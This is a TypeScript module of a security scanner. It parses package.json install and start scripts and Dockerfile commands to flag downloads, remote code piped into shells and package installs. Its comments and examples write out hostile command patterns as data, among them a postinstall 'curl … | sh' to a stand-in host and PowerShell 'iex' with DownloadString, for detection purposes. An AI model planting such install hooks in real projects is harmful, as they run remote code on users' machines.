/**
 * The commands a project file runs outside the code: the package.json scripts npm runs when the
 * package is installed or started (`preinstall`, `install`, `postinstall`, `prepare`, `prestart`,
 * `start`, `poststart`, and the scripts they run with `npm run x`), and a Dockerfile's `RUN`,
 * `CMD`, `ENTRYPOINT` and `ADD`. Each command line is lexed as a shell would split it
 * (shell-words.ts) and read for the rows of patterns/project-commands.ts: downloads,
 * downloads run as code, and packages installed by name. Inline code (`node -e '…'`, `python -c '…'`) is scanned as code of its
 * language (the command lines it writes for a shell, `execSync('curl … | sh')`, read as lines), and the script files an interpreter runs (`node install.js`) are returned so the
 * caller scans them as entry points. Pure: text in, findings out.
 *
 * @module
 */
import type { ScanFinding } from './types.ts';
import { shellCommands } from './shell-words.ts';
import { COMMAND_DEPTH, commandName, effectiveCommands, handedLines, plainArguments, escapeRegExp, runsFile, unwrap } from './command-words.ts';
import { dockerfileCommands } from './dockerfile-commands.ts';
import { CODE_RUNNERS, COMMAND_RULES, CONCURRENT_RUNNERS, CONCURRENT_VALUE_OPTIONS, DOWNLOAD_COMMANDS, INLINE_CODE_OPTIONS, PACKAGE_INSTALLERS, PACKAGE_MANAGER_VALUE_OPTIONS, RUN_SCRIPTS, type PackageInstaller, SCRIPT_INTERPRETERS, SCRIPT_RUNNERS, SCRIPT_RUNNER_VALUE_OPTIONS, SHELLS, VALUE_OPTIONS } from './patterns/project-commands.ts';
import { scanSource } from './scan-source.ts';
import { callCommandLine } from './call-command.ts';

/** One command line a project file runs. */
export interface ProjectCommand {
  /** Where it comes from: `scripts.postinstall`, `scripts.start → scripts.server`, `RUN`, `CMD`. */
  origin: string;
  /** The command line (for a Dockerfile exec form, its words joined, each quoted). */
  command: string;
  /** One-based line in the project file. */
  line: number;
  /**
   * Read for the command rows only: a `prepare` script (and what it runs), which npm runs when the
   * package is installed from a git repository or in its own folder, not from the registry; it
   * builds (`tsc && node -e "require('fs').chmodSync('build/index.js', '755')"`), and its inline
   * code and files are the build's, not the server's.
   */
  rowsOnly?: true;
}

/** What the commands of a project file do. */
export interface ProjectCommandScan {
  /** Capability findings, at the project file's line of each command. */
  findings: ScanFinding[];
  /** Relative paths of the code files the commands run (`install.js` of `node install.js`), as written. */
  scripts: string[];
}

/** How deep `npm run x`, `sh -c '…'` and substitutions are followed. */
const MAX_DEPTH = COMMAND_DEPTH;

export { dockerfileCommands };

/**
 * The kind of project file a file name is, for {@link scanProjectCommands}.
 *
 * @param name A file's base name.
 * @returns `package.json`, `Dockerfile` (also `Containerfile`, `Dockerfile.prod`, `api.Dockerfile`) or undefined.
 * @example
 * projectCommandFileKind('Dockerfile.dev') // 'Dockerfile'
 */
export function projectCommandFileKind(name: string): 'package.json' | 'Dockerfile' | undefined {
  if (name === 'package.json') return name;
  if (name === 'Dockerfile' || name === 'Containerfile' || /^(?:Dockerfile|Containerfile)\.[A-Za-z0-9_-]+$/.test(name) && !/\.(?:[cm]?[jt]sx?|py|go|rs|json)$/.test(name)) return 'Dockerfile';
  return /^[A-Za-z0-9_.-]+\.(?:Dockerfile|dockerfile)$/.test(name) ? 'Dockerfile' : undefined;
}

/**
 * The command lines of a package.json that npm runs at install or start: each of
 * {@link RUN_SCRIPTS} the file defines, and the scripts those run by name (`npm run build`,
 * `yarn build`, `pnpm run build`, `bun run build`, `npm start`), a few levels deep.
 *
 * @param text The package.json text.
 * @returns The commands; none when the text is no JSON object.
 * @example
 * packageJsonCommands('{"scripts":{"postinstall":"node install.js"}}') // [{ origin: 'scripts.postinstall', command: 'node install.js', line: 1 }]
 */
export function packageJsonCommands(text: string): ProjectCommand[] {
  const json = tryParseObject(text);
  const scripts = json?.['scripts'];
  if (scripts === null || typeof scripts !== 'object' || Array.isArray(scripts)) return [];
  const table = scripts as Record<string, unknown>;
  const out: ProjectCommand[] = [];
  const lines = text.split('\n');
  const scriptsLine = lines.findIndex((l) => l.includes('"scripts"'));
  const lineOf = (name: string): number => {
    const key = JSON.stringify(name);
    const at = lines.findIndex((l, k) => k >= scriptsLine && l.includes(key) && /"\s*:/.test(l.slice(l.indexOf(key) + key.length - 1)));
    return at < 0 ? 1 : at + 1;
  };
  const visit = (name: string, origin: string, seen: ReadonlySet<string>): void => {
    const command = Object.hasOwn(table, name) ? table[name] : undefined;
    if (typeof command !== 'string' || seen.has(name) || seen.size > MAX_DEPTH) return;
    const here = new Set([...seen, name]);
    out.push({ origin, command, line: lineOf(name), ...(origin.startsWith('scripts.prepare') ? { rowsOnly: true as const } : {}) });
    for (const run of namedScripts(command, table)) visit(run, `${origin} → scripts.${run}`, here);
  };
  for (const name of RUN_SCRIPTS) visit(name, `scripts.${name}`, new Set());
  return out;
}

/**
 * The script names a command line runs (`npm run build`, `yarn build`, `npm start`, `npm-run-all
 * fetch build:*`, `run-s`, `run-p`, `concurrently "npm:watch-*"`), also through the wrappers
 * {@link effectiveCommands} reads past (`cross-env X=1 npm run x`, `sh -c "npm run x"`). A glob
 * (`build:*`) names each script of the table it matches.
 */
function namedScripts(command: string, table: Readonly<Record<string, unknown>>): string[] {
  const out: string[] = [];
  const glob = (pattern: string, star: string): string[] => {
    if (!pattern.includes('*')) return [pattern];
    const re = new RegExp(`^${pattern.split('**').map((part) => part.split('*').map(escapeRegExp).join(star)).join('.*')}$`);
    return Object.keys(table).filter((k) => re.test(k)).sort();
  };
  for (const words of effectiveCommands(command, 0)) {
    const name = commandName(words[0] ?? '');
    if (SCRIPT_RUNNERS.has(name)) {
      for (const arg of plainArguments(words.slice(1), SCRIPT_RUNNER_VALUE_OPTIONS)) out.push(...glob(arg.split(/\s+/)[0]!, '[^:]*'));
      continue;
    }
    if (CONCURRENT_RUNNERS.has(name)) {
      for (const arg of plainArguments(words.slice(1), CONCURRENT_VALUE_OPTIONS)) {
        const script = /^(?:npm|yarn|pnpm|bun):(\S+)/.exec(arg);
        if (script !== null) out.push(...glob(script[1]!, '.*'));
      }
      continue;
    }
    if (name !== 'npm' && name !== 'yarn' && name !== 'pnpm' && name !== 'bun') continue;
    // `npm --prefix sub run x`, `pnpm --filter a run x`, `yarn workspace a run x`: another package's scripts.
    if (words.some((w) => /^(?:--prefix|-C|--dir|-w|--workspace|--workspaces|-ws|--filter|-F|--recursive|-r)(?:=|$)/.test(w)) || words[1] === 'workspace' || words[1] === 'workspaces') continue;
    const args = words.slice(1).filter((w) => !w.startsWith('-'));
    if (args[0] === 'run' || args[0] === 'run-script') {
      if (args[1] !== undefined) out.push(args[1]);
    } else if (args[0] === 'start' || args[0] === 'test' || args[0] === 'restart' || args[0] === 'stop') {
      out.push(args[0]);
    } else if ((name === 'yarn' || name === 'pnpm') && args[0] !== undefined && args[0] !== 'exec' && args[0] !== 'dlx') out.push(args[0]);
  }
  return out;
}

/**
 * Scan the commands of a project file.
 *
 * @param file The project file's path (for the findings).
 * @param text Its text.
 * @param kind What it is ({@link projectCommandFileKind}).
 * @returns Capability findings at the lines of the commands, and the script files a package.json's
 *   commands run (a Dockerfile's paths are the image's, not the project's: none).
 * @example
 * scanProjectCommands('package.json', '{"scripts":{"postinstall":"curl -s https://x.test/i | sh"}}', 'package.json').findings.map((f) => f.id)
 * // ['network.command-download', 'code-evaluation.command-remote-code']
 */
export function scanProjectCommands(file: string, text: string, kind: 'package.json' | 'Dockerfile'): ProjectCommandScan {
  const commands = kind === 'package.json' ? packageJsonCommands(text) : dockerfileCommands(text);
  const lines = text.split(/\r?\n/);
  const findings: ScanFinding[] = [];
  const scripts: string[] = [];
  const seen = new Set<string>();
  const dependencies = kind === 'package.json' ? declaredDependencies(text) : undefined;
  for (const command of commands) {
    const evidence = (lines[command.line - 1] ?? '').trim().slice(0, 200);
    const at = { file, line: command.line, evidence, origin: command.origin };
    const emit = (id: string, identifier: string, detail: string): void => {
      const rule = COMMAND_RULES.find((r) => r.id === id)!;
      const key = `${id}\u0000${identifier}\u0000${command.line}`;
      if (seen.has(key)) return;
      seen.add(key);
      findings.push({ id, kind: 'capability', level: 'note', family: rule.family, identifier, file, line: command.line, column: 1, evidence, detail: `${command.origin}: ${detail}` });
    };
    // `ADD <url> <dest>`: Docker downloads the URL at build.
    if (command.origin.endsWith('ADD')) emit('network.command-download', 'command:ADD', `downloads ${command.command.slice(0, 120)}`);
    else {
      // Packages installed where the server is installed or started: a package.json's scripts, a container's start command (not an image's build).
      const installs = kind === 'package.json' || command.origin === 'CMD' || command.origin === 'ENTRYPOINT';
      readLine(command.command, 0, { emit, scripts: kind === 'package.json' && command.rowsOnly !== true ? scripts : [], findings, at, rowsOnly: command.rowsOnly === true, installs, ...(dependencies !== undefined ? { dependencies } : {}) });
    }
  }
  return { findings, scripts: [...new Set(scripts)] };
}

interface ReadContext {
  emit(id: string, identifier: string, detail: string): void;
  scripts: string[];
  findings: ScanFinding[];
  at: { file: string; line: number; evidence: string; origin: string };
  /** Only the command rows: no inline code scanned (see `ProjectCommand.rowsOnly`). */
  rowsOnly: boolean;
  /** Package installs are read (`network.command-package-install`): not in an image's build (`RUN`). */
  installs: boolean;
  /** A package.json's declared dependencies (all kinds): a package runner runs these from the install, fetching nothing. */
  dependencies?: ReadonlySet<string>;
}

/** Read one command line (and, a few levels deep, the lines it hands to a shell). */
function readLine(line: string, depth: number, ctx: ReadContext): boolean {
  if (depth > MAX_DEPTH) return false;
  const commands = shellCommands(line);
  let downloads = false;
  // Whether the pipeline so far holds a download (its output flows on through `|`).
  let piped: string | undefined;
  commands.forEach((c, index) => {
    if (c.after !== '|') piped = undefined;
    const unwrapped = unwrap(c.words);
    const words = unwrapped.words;
    const name = commandName(words[0]?.text ?? '');
    const texts = words.map((w) => w.text);
    // `npx -y pkg`, `pnpm dlx pkg`: the registry's package fetched to run, unless the package.json depends on it.
    const runner = unwrapped.runner;
    if (runner !== undefined && (runner.alwaysFetches || runner.yes) && ctx.dependencies?.has(runner.name) !== true) {
      ctx.emit('network.command-download', `command:${runner.runner.replace(' ', '-')}`, `${runner.runner} fetches ${runner.name} from the npm registry to run it`);
    }
    // What the words' substitutions run (`$(curl …)`, `<(wget …)`).
    let substituted: string | undefined;
    for (const w of words) for (const sub of w.subs) if (readLine(sub, depth + 1, ctx)) substituted ??= firstDownloader(sub);
    // Command lines handed on: `sh -c '…'`, `bash -lc '…'`, `cmd /c …`, `env -S '…'`, `cross-env-shell '…'`, concurrently's, `npx -c '…'`;
    // what one of them downloads flows on through a pipe (`sh -c 'curl …' | sh`).
    let handed: string | undefined;
    for (const inner of [...unwrapped.lines, ...handedLines(texts)]) if (readLine(inner, depth + 1, ctx)) handed ??= firstDownloader(inner) ?? 'download';
    if (handed !== undefined) {
      downloads = true;
      piped = handed;
    } else if (DOWNLOAD_COMMANDS.has(name)) {
      downloads = true;
      ctx.emit('network.command-download', `command:${name}`, `runs ${name}`);
      piped = name;
    } else if (piped !== undefined && CODE_RUNNERS.has(name) && !runsFile(name, words.slice(1).map((w) => w.text))) {
      ctx.emit('code-evaluation.command-remote-code', `command:${piped}|${name}`, `pipes what ${piped} downloads into ${name}`);
    } else if (c.after === '|' && piped !== undefined && !CODE_RUNNERS.has(name)) {
      // `curl … | tar x`, `curl … | grep`: the data flows on; a runner after it still runs it.
    } else if (!(c.after === '|' && piped !== undefined)) piped = undefined;
    if (substituted !== undefined && (CODE_RUNNERS.has(name) || SHELLS.has(name))) {
      ctx.emit('code-evaluation.command-remote-code', `command:${substituted}|${name}`, `${name} runs what ${substituted} downloads`);
    }
    // PowerShell's command text: `iex (iwr …)`, `Invoke-Expression (New-Object Net.WebClient).DownloadString(…)`.
    if (name === 'powershell' || name === 'pwsh') {
      const flag = words.findIndex((w, k) => k > 0 && /^-(?:c|command|encodedcommand|e|ec)$/i.test(w.text));
      // The command text as written to the end of the line: PowerShell's parentheses are no shell grouping.
      if (flag > 0 && words[flag + 1] !== undefined) powershell(rawToLineEnd(line, words[flag + 1]!.start), ctx);
    }
    if ((name === 'iex' || name === 'invoke-expression') && words[0] !== undefined) powershell(rawToLineEnd(line, words[0].start), ctx);
    if (ctx.installs) packageInstall(texts, ctx);
    inline(name, texts, depth, ctx);
    script(name, texts, ctx);
    void index;
  });
  return downloads;
}

/** The text of a line from an offset to the end of its line (a raw PowerShell command, not split as a POSIX shell would). */
function rawToLineEnd(line: string, start: number): string {
  const end = line.indexOf('\n', start);
  return line.slice(start, end < 0 ? line.length : end);
}

/** The first download command a command line runs, for the identifier. */
function firstDownloader(line: string): string | undefined {
  for (const c of shellCommands(line)) {
    const name = commandName(unwrap(c.words).words[0]?.text ?? '');
    if (DOWNLOAD_COMMANDS.has(name)) return name;
  }
  return undefined;
}

/** PowerShell text that downloads (`iwr`, `Invoke-WebRequest`, `DownloadString`) and runs it (`iex`, `Invoke-Expression`). */
function powershell(text: string, ctx: ReadContext): void {
  const words = text.toLowerCase().split(/[^a-z0-9-]+/);
  const downloader = words.find((w) => DOWNLOAD_COMMANDS.has(w)) ?? (words.includes('downloadstring') || words.includes('downloadfile') ? 'downloadstring' : undefined);
  if (downloader === undefined) return;
  ctx.emit('network.command-download', `command:${downloader}`, `runs ${downloader}`);
  if (words.includes('iex') || words.includes('invoke-expression')) ctx.emit('code-evaluation.command-remote-code', `command:${downloader}|iex`, `iex runs what ${downloader} downloads`);
}

/**
 * Inline code (`node -e '…'`, `python -c '…'`): scanned as code of its language, reported at the
 * command (under `prepare`, not: see `ProjectCommand.rowsOnly`). The commands its calls run, as
 * a written shell line (`require('child_process').execSync('curl … | sh')`, `os.system('wget …')`)
 * or a written program and argument list (`spawn('curl', ['-fsSL', url])`, `subprocess.run(['sh',
 * '-c', '…'])`, see call-command.ts), are read as the command's own lines, for the command rows.
 */
function inline(name: string, words: readonly string[], depth: number, ctx: ReadContext): void {
  const known = INLINE_CODE_OPTIONS[name];
  if (known === undefined) return;
  for (let k = 1; k < words.length; k++) {
    const w = words[k]!;
    const eq = known.options.find((o) => o.startsWith('--') && w.startsWith(`${o}=`));
    const code = eq !== undefined ? w.slice(eq.length + 1) : known.options.includes(w) ? words[k + 1] : undefined;
    if (code === undefined) continue;
    const snippet = scanSource(code, { file: `${ctx.at.file}#${ctx.at.origin}.${known.language}` });
    for (const f of snippet.findings) {
      if (f.kind !== 'capability' && f.kind !== 'evasion') continue;
      const shellLine = f.kind === 'capability' ? callCommandLine(code, f, known.language) : undefined;
      if (shellLine !== undefined) {
        const via = `${f.identifier} in the code of ${name} ${w}`;
        readLine(shellLine, depth + 1, { ...ctx, emit: (id, identifier, detail) => ctx.emit(id, identifier, `${detail} (a command line of ${via})`) });
      }
      if (ctx.rowsOnly) continue;
      ctx.findings.push({ ...f, file: ctx.at.file, line: ctx.at.line, column: 1, evidence: ctx.at.evidence, detail: `${ctx.at.origin}: in the code of ${name} ${w}${f.detail !== undefined ? `: ${f.detail}` : ''}` });
    }
    if (!ctx.rowsOnly) for (const imp of snippet.imports) if (imp.kind === 'relative' && !imp.typeOnly) ctx.scripts.push(imp.specifier);
    return;
  }
}

/**
 * A command that installs named packages or browser builds ({@link PACKAGE_INSTALLERS}): `npm
 * install x`, `pip install x`, `python -m pip install x`, `go install x@latest`, `playwright
 * install`. Installing what the project declares (`npm ci`, `npm install`, `pip install -r
 * requirements.txt`, `pip install -e .`) names no package and is no finding.
 */
function packageInstall(words: readonly string[], ctx: ReadContext): void {
  let all = words;
  // `python -m pip install x` is `pip install x`.
  if (/^(?:python[0-9.]*|py)$/.test(commandName(all[0] ?? '')) && all[1] === '-m' && all[2] !== undefined) all = all.slice(2);
  const program = commandName(all[0] ?? '');
  // The first words that are no option after the program, by place: `npm --silent install x`, `yarn global add x`.
  const plain: number[] = [];
  for (let k = 1; k < all.length && plain.length < 2; k++) {
    const w = all[k]!;
    if (w.startsWith('-') && w.length > 1) {
      if (!w.includes('=') && PACKAGE_MANAGER_VALUE_OPTIONS.has(w)) k++;
      continue;
    }
    plain.push(k);
  }
  for (const n of [2, 1]) {
    if (plain.length < n) continue;
    const key = [program, ...plain.slice(0, n).map((k) => all[k]!)].join(' ');
    const installer = Object.hasOwn(PACKAGE_INSTALLERS, key) ? PACKAGE_INSTALLERS[key]! : undefined;
    if (installer === undefined) continue;
    const specs = installedPackages(installer, all.slice(plain[n - 1]! + 1));
    if (specs === undefined) return;
    const names = specs.map((spec) => (spec.includes('$') ? 'a package named at run time' : spec));
    const named = names.length > 3 ? `${names.slice(0, 3).join(', ')} and ${names.length - 3} more` : names.join(', ');
    // A URL or repository (`git+https://…`, `--git URL`) says where by itself.
    const where = specs.some((spec) => /^(?:git\+|git@|[a-z][\w+.-]*:\/\/)/i.test(spec)) ? '' : ` from ${installer.from}`;
    ctx.emit('network.command-package-install', `command:${installer.name}`, installer.reads === 'always' ? `${key} downloads ${installer.from}` : `${key} fetches ${named}${where}`);
    return;
  }
}

/** The packages an installer's arguments name (none for `always`), or undefined when they name none it fetches. */
function installedPackages(installer: PackageInstaller, args: readonly string[]): string[] | undefined {
  if (installer.reads === 'always') return [];
  const specs: string[] = [];
  for (let k = 0; k < args.length; k++) {
    const a = args[k]!;
    if (a === '--') {
      specs.push(...args.slice(k + 1, installer.firstOnly === true ? k + 2 : undefined));
      break;
    }
    if (a.startsWith('-') && a.length > 1) {
      const bare = a.replace(/=.*$/s, '');
      const takes = installer.valueOptions?.includes(bare) === true || installer.sourceOptions?.includes(bare) === true;
      const value = a.includes('=') ? a.slice(a.indexOf('=') + 1) : takes ? args[++k] : undefined;
      if (installer.sourceOptions?.includes(bare) === true && value !== undefined) specs.push(value);
      continue;
    }
    specs.push(a);
    if (installer.firstOnly === true) break;
  }
  const names = specs.filter((spec) => !isLocalSpec(spec) && (installer.reads !== 'versioned' || /^[^@]+@./.test(spec)));
  return names.length > 0 ? names : undefined;
}

/**
 * Whether a package argument names no package fetched: a path (`.`, `./pkg`, `/abs`, `~/x`,
 * `C:\x`), `file:`, `link:`, `workspace:` and `portal:` specifiers, an archive file (`x.tgz`,
 * `x.whl`). A variable (`$PKG`, a word computed at run time) is a package fetched: installers are
 * given registry names far more often than paths.
 */
function isLocalSpec(spec: string): boolean {
  if (spec === '') return true;
  if (/^(?:\.|\/|~|[A-Za-z]:[\\/]|file:|link:|workspace:|portal:)/.test(spec)) return true;
  return !spec.includes('://') && /\.(?:tgz|tar\.gz|tar|whl|zip|gem|crate)$/i.test(spec);
}

/** The script an interpreter runs (`node install.js`, `deno run -A x.ts`, `python3 setup_helper.py`). */
function script(name: string, words: readonly string[], ctx: ReadContext): void {
  if (!SCRIPT_INTERPRETERS.has(name)) return;
  let k = 1;
  if ((name === 'deno' || name === 'bun') && words[k] === 'run') k++;
  for (; k < words.length; k++) {
    const w = words[k]!;
    if (INLINE_CODE_OPTIONS[name]?.options.includes(w) || w === '-m' || w === '-c') return;
    if (VALUE_OPTIONS.has(w)) {
      k++;
      continue;
    }
    if (w.startsWith('-')) continue;
    // A relative path (absolute paths and `$VAR` are the runtime's to resolve).
    if (!w.startsWith('/') && !w.includes('$') && !/^[a-z][\w+.-]*:/i.test(w)) ctx.scripts.push(w);
    return;
  }
}

/** The names a package.json declares as dependencies of any kind. */
function declaredDependencies(text: string): Set<string> {
  const json = tryParseObject(text);
  const out = new Set<string>();
  for (const key of ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies']) {
    const table = json?.[key];
    if (table !== null && typeof table === 'object' && !Array.isArray(table)) for (const name of Object.keys(table)) out.add(name);
  }
  return out;
}

/** A JSON text that is an object, or undefined. */
function tryParseObject(text: string): Record<string, unknown> | undefined {
  try {
    const value: unknown = JSON.parse(text);
    return value !== null && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined;
  } catch {
    return undefined;
  }
}

